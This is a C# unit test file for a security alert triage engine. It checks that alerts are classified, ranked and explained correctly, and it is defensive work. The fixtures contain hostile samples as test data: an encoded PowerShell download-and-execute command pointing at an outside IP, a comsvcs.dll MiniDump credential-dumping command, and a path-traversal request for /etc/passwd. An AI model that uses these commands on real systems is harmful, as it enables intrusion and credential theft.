using System.Text;
using System.Text.Json;
using Verdict.Alerts;
using Verdict.Analysis;
using Verdict.Policy;

namespace Verdict.Tests.Analysis.Families;

/// <summary>What a user notices in the briefs of non-identity alerts: decoded payloads shown, strong evidence never closed,
/// failed attempts ranked below successful ones, and every brief saying what it rests on and what would change it.</summary>
public sealed class FamilyBehaviourTests
{
    private static Assessment Assess(object input) => Assess([input])[0];

    private static List<Assessment> Assess(params object[] inputs)
    {
        var fixtures = inputs.Select((o, i) => new FamilyFixture($"t{i}", JsonSerializer.Serialize(o), true, "")).ToList();
        return [.. FamilyFixtures.Triage(fixtures).Select(o => o.Assessment!)];
    }

    private static string Enc(string s) => Convert.ToBase64String(Encoding.Unicode.GetBytes(s));

    [Fact]
    public void An_encoded_PowerShell_command_is_decoded_and_the_decoded_text_is_shown()
    {
        var a = Assess(new Dictionary<string, object>
        {
            ["rule_name"] = "Suspicious PowerShell", ["user"] = "bob", ["host"] = "ws-1", ["time"] = "2026-11-18T10:00:00Z",
            ["parent_image"] = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            ["command_line"] = "powershell -nop -w hidden -enc " + Enc("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.3/p')"),
        });

        Assert.Equal(Classification.Malicious, a.Classification);
        var decoded = Assert.Single(a.Evidence, e => e.Key == "encoded_command");
        Assert.Contains("DownloadString('http://198.51.100.3/p')", decoded.Description, StringComparison.Ordinal);
        Assert.Contains(a.Evidence, e => e.Key == "office_spawns_shell");
        Assert.Contains(a.Evidence, e => e.Key == "download_and_execute");
    }

    [Fact]
    public void Credential_dumping_is_never_closed_even_from_a_deployment_tool_by_an_admin_in_business_hours()
    {
        var a = Assess(new Dictionary<string, object>
        {
            ["rule_name"] = "Process creation", ["user"] = "it.admin", ["host"] = "ws-itadmin01", ["time"] = "2026-11-18T10:00:00Z", ["severity"] = "info",
            ["parent_image"] = @"C:\Windows\CCM\CcmExec.exe", ["image"] = @"C:\Windows\System32\rundll32.exe",
            ["command_line"] = @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\x.dmp full",
        });

        Assert.NotEqual(Classification.Benign, a.Classification);
        Assert.Contains(a.Evidence, e => e.Key == "credential_dumping" && e.Strong);
        Assert.Contains(a.Evidence, e => e.Key == "deployment_tool");
        Assert.Contains("from ever being closed as benign", a.WhatWouldChange ?? "", StringComparison.Ordinal);
    }

    [Fact]
    public void A_blocked_injection_is_less_severe_than_one_whose_response_leaked_the_file()
    {
        object Request(string status, string? body, string? action) => new Dictionary<string, object?>
        {
            ["rule_name"] = "Path Traversal", ["sip"] = "198.51.100.9", ["dip"] = "10.10.1.7", ["dport"] = "80", ["method"] = "GET", ["ts"] = "2026-11-18T10:00:00Z",
            ["uri"] = "/download?file=..%252f..%252f..%252f..%252fetc%252fpasswd", ["rsp_status"] = status, ["rsp_body"] = body, ["action"] = action,
        }.Where(kv => kv.Value is not null).ToDictionary(kv => kv.Key, kv => kv.Value!);
        var results = Assess(Request("403", null, "blocked"), Request("200", "root:x:0:0:root:/root:/bin/bash", null));
        var (blocked, leaked) = (results[0], results[1]);

        Assert.NotEqual(Classification.Benign, blocked.Classification);
        Assert.Contains(blocked.Evidence, e => e.Key == "path_traversal" && e.Description.Contains("../../", StringComparison.Ordinal));
        Assert.Contains("attempt was blocked or failed", blocked.SeverityRationale, StringComparison.Ordinal);
        Assert.Equal(Classification.Malicious, leaked.Classification);
        Assert.Contains(leaked.Evidence, e => e.Key == "exploit_success" && e.Strong);
        Assert.True(leaked.Severity > blocked.Severity, $"{leaked.Severity} vs {blocked.Severity}");
    }

    [Fact]
    public void An_internal_client_sending_the_apps_own_sort_and_filter_parameters_is_closed_with_that_reason()
    {
        var a = Assess(new Dictionary<string, object>
        {
            ["rule_name"] = "SQL Injection", ["severity"] = "high", ["sip"] = "10.20.5.14", ["dip"] = "10.10.1.30", ["method"] = "GET", ["ts"] = "2026-11-18T10:00:00Z",
            ["uri"] = "/api/reports?sort=name%20desc&filter=select", ["rsp_status"] = "200",
        });

        Assert.Equal(Classification.Benign, a.Classification);
        Assert.Equal(Decision.AutoClose, DecisionPolicy.Decide(a).Decision);
        Assert.Contains("sort/filter/search parameters", DecisionPolicy.Decide(a).Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void A_clean_looking_internal_email_whose_link_is_on_the_IOC_feed_is_not_closed()
    {
        var a = Assess(new Dictionary<string, object>
        {
            ["rule_name"] = "Suspicious link", ["time"] = "2026-11-18T10:00:00Z", ["from"] = "hr@globex.com", ["subject"] = "Benefits",
            ["spf"] = "pass", ["dkim"] = "pass", ["dmarc"] = "pass", ["urls"] = "https://invoice-portal.top/benefits",
        });

        Assert.Contains(a.Evidence, e => e.Key == "internal_authenticated");
        Assert.Contains(a.Evidence, e => e.Key.StartsWith("intel_malicious", StringComparison.Ordinal) && e.Strong);
        Assert.NotEqual(Classification.Benign, a.Classification);
    }

    [Fact]
    public void A_cloud_change_that_failed_is_less_severe_than_the_same_change_that_succeeded()
    {
        Dictionary<string, object> Attach(bool failed)
        {
            var d = new Dictionary<string, object>
            {
                ["rule_name"] = "IAM policy change", ["eventTime"] = "2026-11-18T10:00:00Z", ["eventName"] = "AttachUserPolicy", ["awsRegion"] = "us-east-1",
                ["userIdentity"] = new { type = "IAMUser", userName = "s.kim" }, ["requestParameters"] = new { policyArn = "arn:aws:iam::aws:policy/AdministratorAccess" },
            };
            if (failed) d["errorCode"] = "AccessDenied";
            return d;
        }
        var results = Assess(Attach(failed: true), Attach(failed: false));

        Assert.All(results, r => Assert.NotEqual(Classification.Benign, r.Classification));
        Assert.True(results[1].Severity > results[0].Severity, $"{results[1].Severity} vs {results[0].Severity}");
    }

    [Theory]
    [InlineData("endpoint")]
    [InlineData("network")]
    [InlineData("cloud")]
    [InlineData("email")]
    public void Every_brief_names_the_evidence_behind_the_winning_hypothesis_and_what_would_change_it(string family)
    {
        foreach (var outcome in FamilyFixtures.Triage(FamilyFixtures.Load(family)))
        {
            var a = outcome.Assessment!;
            Assert.False(string.IsNullOrWhiteSpace(a.WhatWouldChange), outcome.Alert!.Id);
            Assert.Contains(a.Hypotheses, h => h.Kind == Leaning.Malicious);
            Assert.Contains(a.Hypotheses, h => h.Kind == Leaning.Benign);
            if (a.Classification != Classification.Suspicious)
                Assert.NotEmpty(a.Hypotheses[0].EvidenceFor);
            Assert.NotEmpty(a.Questions);
            Assert.False(string.IsNullOrWhiteSpace(a.SeverityRationale));
        }
    }
}
